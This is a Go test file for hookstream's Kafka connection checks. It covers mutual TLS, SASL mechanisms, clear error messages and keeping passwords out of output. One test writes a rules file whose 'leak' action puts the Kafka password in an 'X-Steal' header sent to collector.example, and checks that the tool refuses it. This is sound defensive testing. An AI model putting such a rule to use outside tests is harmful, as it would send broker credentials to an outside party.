package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/hookstream/hookstream/internal/config"
	"github.com/hookstream/hookstream/internal/kafkaconn"
	"github.com/hookstream/hookstream/internal/kafkatest"
	"github.com/twmb/franz-go/pkg/kfake"
)

// pki is a throw-away certificate authority with a broker certificate for
// 127.0.0.1 and a client certificate, written as PEM files.
type pki struct {
	pool                    *x509.CertPool
	caFile                  string
	server                  tls.Certificate
	clientCert, clientKey   string
	strangerCert, strangerK string // a client certificate from another CA
}

func newPKI(t *testing.T) *pki {
	t.Helper()
	ca := kafkatest.NewCA(t, "hookstream test CA")
	p := &pki{pool: ca.Pool(), caFile: ca.File(t), server: ca.Server(t, "127.0.0.1").TLS()}
	p.clientCert, p.clientKey = ca.Client(t, "hookstream").Files(t)
	p.strangerCert, p.strangerK = kafkatest.NewCA(t, "other CA").Client(t, "stranger").Files(t)
	return p
}

// secureCluster is a kfake cluster that wants TLS with a client certificate
// from p's CA and SASL, with one user per mechanism, all with password
// "right-password".
func secureCluster(t *testing.T, p *pki) *kfake.Cluster {
	t.Helper()
	c, err := kfake.NewCluster(kfake.NumBrokers(1), kfake.SeedTopics(1, "events"),
		kfake.TLS(&tls.Config{Certificates: []tls.Certificate{p.server}, ClientCAs: p.pool,
			ClientAuth: tls.RequireAndVerifyClientCert, MinVersion: tls.VersionTLS12}),
		kfake.EnableSASL(),
		kfake.Superuser(config.MechanismPlain, "plain-user", "right-password"),
		kfake.Superuser(config.MechanismScramSHA256, "scram-user", "right-password"),
		kfake.Superuser(config.MechanismScramSHA512, "scram-user", "right-password"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}

// TestKafkaMutualTLSAndSASL connects with TLS (CA and client certificate)
// and each SASL mechanism at once, and checks that checkBrokers tells every
// broken setting apart, naming the setting and never the password.
func TestKafkaMutualTLSAndSASL(t *testing.T) {
	p := newPKI(t)
	c := secureCluster(t, p)
	goodTLS := &config.TLS{CAFile: p.caFile, CertFile: p.clientCert, KeyFile: p.clientKey}
	tests := []struct {
		name      string
		tls       *config.TLS
		mechanism string
		user      string
		password  string
		want      string // "" = connects; else a part of checkBrokers' error
	}{
		{"PLAIN", goodTLS, "PLAIN", "plain-user", "right-password", ""},
		{"SCRAM-SHA-256", goodTLS, "SCRAM-SHA-256", "scram-user", "right-password", ""},
		{"SCRAM-SHA-512", goodTLS, "SCRAM-SHA-512", "scram-user", "right-password", ""},
		{"PLAIN wrong password", goodTLS, "PLAIN", "plain-user", "wrong-password", "the brokers refused PLAIN authentication as \"plain-user\" with the password from KAFKA_PASSWORD"},
		{"SCRAM-SHA-256 wrong password", goodTLS, "SCRAM-SHA-256", "scram-user", "wrong-password", "refused SCRAM-SHA-256 authentication"},
		{"SCRAM-SHA-512 wrong password", goodTLS, "SCRAM-SHA-512", "scram-user", "wrong-password", "refused SCRAM-SHA-512 authentication"},
		{"unknown user", goodTLS, "SCRAM-SHA-512", "nobody", "right-password", "refused SCRAM-SHA-512 authentication as \"nobody\""},
		{"no client certificate", &config.TLS{CAFile: p.caFile}, "SCRAM-SHA-512", "scram-user", "right-password", "kafka.tls: TLS with the brokers failed"},
		{"client certificate of another CA", &config.TLS{CAFile: p.caFile, CertFile: p.strangerCert, KeyFile: p.strangerK},
			"SCRAM-SHA-512", "scram-user", "right-password", "kafka.tls: TLS with the brokers failed"},
		{"broker CA not trusted", &config.TLS{CertFile: p.clientCert, KeyFile: p.clientKey}, "SCRAM-SHA-512", "scram-user", "right-password",
			"kafka.tls: the brokers' certificate is not trusted"},
		{"no TLS at all", nil, "SCRAM-SHA-512", "scram-user", "right-password", "is TLS missing?"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := config.Default()
			cfg.Kafka.Brokers = c.ListenAddrs()
			cfg.Kafka.TLS = tt.tls
			cfg.Kafka.SASL = &config.SASL{Mechanism: tt.mechanism, Username: tt.user, PasswordEnv: "KAFKA_PASSWORD"}
			cl := &cli{lookupEnv: func(k string) (string, bool) { return tt.password, k == "KAFKA_PASSWORD" }}
			opts, err := cl.kafkaOpts(&cfg)
			if err != nil {
				t.Fatalf("kafkaOpts: %v", err)
			}
			var logs bytes.Buffer
			start := time.Now()
			err = checkBrokers(context.Background(), &cfg, opts, slog.New(slog.NewTextHandler(&logs, nil)))
			took := time.Since(start)
			if tt.want == "" {
				if err != nil || logs.Len() > 0 {
					t.Fatalf("checkBrokers: %v (logs %q), want a connection", err, logs.String())
				}
				if pingErr := ping(t, opts); pingErr != nil {
					t.Fatalf("ping: %v", pingErr)
				}
				return
			}
			var ue usageError
			if !errors.As(err, &ue) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("checkBrokers = %v, want a usage error containing %q", err, tt.want)
			}
			if strings.Contains(err.Error(), tt.password) {
				t.Errorf("the error holds the password: %v", err)
			}
			if took > kafkaconn.CheckTimeout/2 {
				t.Errorf("checkBrokers took %v to give up; a refusal should be quick", took)
			}
		})
	}
}

// TestCheckBrokersWaitsForUnreachable checks that brokers that are not up
// yet are only warned about: the worker starts and keeps trying.
func TestCheckBrokersWaitsForUnreachable(t *testing.T) {
	cfg := config.Default()
	cfg.Kafka.Brokers = []string{kafkatest.FreeAddr(t)}
	opts, err := (&cli{lookupEnv: func(string) (string, bool) { return "", false }}).kafkaOpts(&cfg)
	if err != nil {
		t.Fatal(err)
	}
	var logs bytes.Buffer
	if err := checkBrokers(context.Background(), &cfg, opts, slog.New(slog.NewTextHandler(&logs, nil))); err != nil {
		t.Fatalf("checkBrokers = %v, want nil and a warning", err)
	}
	if !strings.Contains(logs.String(), "kafka brokers not reachable yet") {
		t.Errorf("no warning logged: %q", logs.String())
	}
}

// TestWrongKafkaPasswordExitsQuickly runs the binary against a broker with
// SASL and TLS: a wrong password ends it with exit status 2 and a message
// naming the setting, within seconds, instead of a worker that never
// consumes. A config file cannot hold the password itself.
func TestWrongKafkaPasswordExitsQuickly(t *testing.T) {
	p := newPKI(t)
	c := secureCluster(t, p)
	rules := writeFile(t, "rules.yaml", "actions:\n- id: a\n  trigger: \"true\"\n  url: http://127.0.0.1:1/in\n")
	conf := func(extra string) string {
		return writeFile(t, "hookstream.yaml", "kafka:\n  brokers: ["+c.ListenAddrs()[0]+"]\n"+
			"  tls: {ca_file: "+p.caFile+", cert_file: "+p.clientCert+", key_file: "+p.clientKey+"}\n"+
			"  sasl: {mechanism: SCRAM-SHA-512, username: scram-user, password_env: KAFKA_PASSWORD"+extra+"}\n")
	}
	tests := []struct {
		name string
		env  []string
		conf string
		want string
	}{
		{"wrong password", []string{"KAFKA_PASSWORD=wrong-password"}, conf(""),
			`hookstream.yaml:4): the brokers refused SCRAM-SHA-512 authentication as "scram-user" with the password from KAFKA_PASSWORD`},
		{"password not set", nil, conf(""),
			"kafka.sasl.password_env (", // names the variable that is empty
		},
		{"password in the config file", []string{"KAFKA_PASSWORD=right-password"}, conf(", password: wrong-password"),
			`unknown key "password" in kafka.sasl`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			r := hookstream(t, tt.env, "run", "--config", tt.conf, "--rules", rules, "--http", "127.0.0.1:0", "--group", "g")
			if r.code != 2 {
				t.Fatalf("exit %d, want 2\nstderr: %s", r.code, r.stderr)
			}
			if !strings.Contains(r.stderr, tt.want) {
				t.Errorf("stderr %q does not say %q", r.stderr, tt.want)
			}
			if strings.Contains(r.stderr+r.stdout, "wrong-password") {
				t.Errorf("the output holds the password: %s", r.stderr)
			}
			if took := time.Since(start); took > 15*time.Second {
				t.Errorf("took %v to exit", took)
			}
		})
	}
}

// TestRulesCannotReadTheKafkaPassword checks that an action asking for the
// variable that holds the Kafka password, to send it to its own endpoint,
// is refused as if the variable were not set, while other variables work.
func TestRulesCannotReadTheKafkaPassword(t *testing.T) {
	p := newPKI(t)
	c := secureCluster(t, p)
	conf := writeFile(t, "hookstream.yaml", "kafka:\n  brokers: ["+c.ListenAddrs()[0]+"]\n"+
		"  tls: {ca_file: "+p.caFile+", cert_file: "+p.clientCert+", key_file: "+p.clientKey+"}\n"+
		"  sasl: {mechanism: SCRAM-SHA-512, username: scram-user, password_env: KAFKA_PASSWORD}\n")
	leak := writeFile(t, "rules.yaml", "actions:\n- id: leak\n  trigger: \"true\"\n  url: https://collector.example/\n"+
		"  headers: {X-Token: \"${env:API_TOKEN}\", X-Steal: \"${env:KAFKA_PASSWORD}\"}\n"+
		"- id: sign\n  trigger: \"true\"\n  url: https://collector.example/\n  secret_env: KAFKA_PASSWORD\n")
	r := hookstream(t, []string{"KAFKA_PASSWORD=right-password", "API_TOKEN=tok"}, "run", "--config", conf, "--rules", leak,
		"--http", "127.0.0.1:0", "--group", "g")
	if r.code != 2 {
		t.Fatalf("exit %d, want 2\n%s", r.code, r.stderr)
	}
	for _, want := range []string{
		`action "leak": headers.X-Steal: environment variable KAFKA_PASSWORD is not set or empty`,
		`action "sign": secret_env KAFKA_PASSWORD: environment variable KAFKA_PASSWORD is not set or empty`,
	} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr does not say %q:\n%s", want, r.stderr)
		}
	}
	if strings.Contains(r.stderr, "X-Token") || strings.Contains(r.stderr+r.stdout, "right-password") {
		t.Errorf("unexpected output:\n%s", r.stderr)
	}
	get := rulesGetenv(&config.Config{Kafka: config.Kafka{SASL: &config.SASL{PasswordEnv: "KAFKA_PASSWORD"}}},
		func(k string) string { return "value of " + k })
	if get("KAFKA_PASSWORD") != "" || get("API_TOKEN") != "value of API_TOKEN" {
		t.Errorf("rulesGetenv hides the wrong variables")
	}
}

// TestOneShotCommandsSayTheBrokersRefused checks that rules list, apply,
// delete and lag report a refused password as run does, with exit 2,
// instead of a bare "EOF" from the first request.
func TestOneShotCommandsSayTheBrokersRefused(t *testing.T) {
	p := newPKI(t)
	c := secureCluster(t, p)
	conf := writeFile(t, "hookstream.yaml", "kafka:\n  brokers: ["+c.ListenAddrs()[0]+"]\n"+
		"  tls: {ca_file: "+p.caFile+", cert_file: "+p.clientCert+", key_file: "+p.clientKey+"}\n"+
		"  sasl: {mechanism: SCRAM-SHA-512, username: scram-user, password_env: KAFKA_PASSWORD}\n")
	rules := writeFile(t, "rules.yaml", "actions:\n- id: a\n  trigger: \"true\"\n  url: https://hooks.example.com/\n")
	for _, args := range [][]string{
		{"rules", "list", "--config", conf},
		{"rules", "apply", "-f", rules, "--config", conf},
		{"rules", "delete", "a", "--config", conf},
		{"lag", "--config", conf},
	} {
		t.Run(strings.Join(args[:2], " "), func(t *testing.T) {
			r := inProcess(t, map[string]string{"KAFKA_PASSWORD": "wrong-password"}, args...)
			if r.code != 2 || !strings.Contains(r.stderr, "the brokers refused SCRAM-SHA-512 authentication") {
				t.Errorf("exit %d, stderr %q", r.code, r.stderr)
			}
			if strings.Contains(r.stderr+r.stdout, "wrong-password") {
				t.Errorf("the output holds the password")
			}
		})
	}
}
